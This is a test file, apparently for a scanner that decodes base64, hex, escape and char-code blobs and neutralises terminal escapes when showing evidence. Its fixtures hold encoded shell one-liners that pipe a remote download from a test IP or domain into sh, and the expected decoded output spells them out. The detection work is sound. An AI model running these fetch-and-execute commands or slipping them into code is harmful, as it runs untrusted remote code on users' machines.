import { describe, expect, it } from 'vitest';
import { decodeBase64, findEncodedBlobs, inert } from '../../src/analysis/payloads.js';

describe('payload decoding', () => {
  it('decodes printable base64 and refuses binary', () => {
    expect(decodeBase64('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo')).toBe(
      'curl -s http://203.0.113.7/x | sh',
    );
    expect(decodeBase64('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')).toBeUndefined();
  });
  it('finds hex, escapes and char codes', () => {
    const text = `a 6375726c202d732068747470733a2f2f612e696f207c207368 b "\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20" c String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100)`;
    const blobs = findEncodedBlobs(text);
    expect(blobs.map((b) => [b.kind, b.decoded])).toEqual([
      ['hex', 'curl -s https://a.io | sh'],
      ['escape', 'curl -s '],
      ['charcode', 'hello world'],
    ]);
  });
  it('skips data-URI images and SRI digests', () => {
    const text =
      'data:image/png;base64,Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoY3VybA== sha512-Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoY3VybA==';
    expect(findEncodedBlobs(text)).toEqual([]);
  });
  it('makes evidence inert', () => {
    expect(inert('a\u001b[31m\nb\u202e c', 10)).toBe('a [31m b c');
    expect(inert('x'.repeat(50), 10)).toBe(`${'x'.repeat(9)}…`);
  });
});

describe('bounded on hostile input (1 MB lines)', () => {
  const MB = 1 << 20;
  const blobs = [
    'A'.repeat(MB),
    'A1'.repeat(MB / 2),
    '0a'.repeat(MB / 2),
    '\\x41'.repeat(MB / 4),
    `fromCharCode(${'1,'.repeat(MB / 2)}`,
    'chr(1)+'.repeat(MB / 7),
  ];
  it.each(blobs.map((h, i) => [i, h] as const))('findEncodedBlobs #%i', (_i, text) => {
    const t0 = performance.now();
    findEncodedBlobs(text);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});
